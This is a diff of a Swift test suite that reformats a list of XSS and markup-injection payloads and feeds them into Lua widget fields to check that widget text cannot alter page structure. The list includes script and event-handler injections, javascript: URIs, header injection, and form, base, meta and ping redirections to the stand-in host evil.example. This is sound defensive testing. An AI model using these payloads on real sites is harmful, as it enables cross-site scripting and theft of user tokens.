@@ -6,21 +6,28 @@ import WidgetTesting
 /// A widget's texts never change the structure of the page.
 @Suite struct InjectionTests {
   private static let payloads: [String] = [
-    "<script>alert(1)</script>", "</article><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)",
-    "\" autofocus onfocus=alert(1) x=\"", "</textarea><script>", "</style><script>alert(1)</script>", "</title><script>", "<!--", "-->",
+    "<script>alert(1)</script>", "</article><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
+    "' onmouseover='alert(1)",
+    "\" autofocus onfocus=alert(1) x=\"", "</textarea><script>", "</style><script>alert(1)</script>", "</title><script>", "<!--",
+    "-->",
     "<![CDATA[", "]]>", "<iframe srcdoc='<script>alert(1)</script>'>", "<svg onload=alert(1)>", "<math><mtext></form><form>",
-    "<form action=//evil.example><input name=token>", "</form><form id=actions action=//evil.example>", "<base href=//evil.example>",
+    "<form action=//evil.example><input name=token>", "</form><form id=actions action=//evil.example>",
+    "<base href=//evil.example>",
     "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example>", "<object data=x>",
-    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x",
+    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
+    "vbscript:x",
     "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "\\u003cscript\\u003e", "&lt;script&gt;", "&#60;script&#62;",
-    "\u{2028}alert(1)\u{2029}", "\n\nevent: card\ndata: {}\n\n", "\r\nSet-Cookie: a=b", "\u{202E}tpircs", "\u{FEFF}<script>", "+ADw-script+AD4-",
-    "<button formaction=//evil.example form=actions>", "<a href=\"/logout\" ping=//evil.example>", "<template shadowrootmode=open><slot>",
+    "\u{2028}alert(1)\u{2029}", "\n\nevent: card\ndata: {}\n\n", "\r\nSet-Cookie: a=b", "\u{202E}tpircs", "\u{FEFF}<script>",
+    "+ADw-script+AD4-",
+    "<button formaction=//evil.example form=actions>", "<a href=\"/logout\" ping=//evil.example>",
+    "<template shadowrootmode=open><slot>",
     "url(//evil.example)", "}*{background:url(//evil.example)}", "expression(alert(1))",
   ]
 
   private func widget(_ text: String) -> String {
     // Every byte as an escape: the text reaches all fields unchanged.
-    let lua = "\"" + text.utf8.map { "\\" + String(repeating: "0", count: max(0, 3 - String($0).count)) + String($0) }.joined() + "\""
+    let lua =
+      "\"" + text.utf8.map { "\\" + String(repeating: "0", count: max(0, 3 - String($0).count)) + String($0) }.joined() + "\""
     return """
       widget { name = \(lua), settings = { a = { type = "string", default = \(lua), label = \(lua), description = \(lua) } } }
       local s = \(lua)
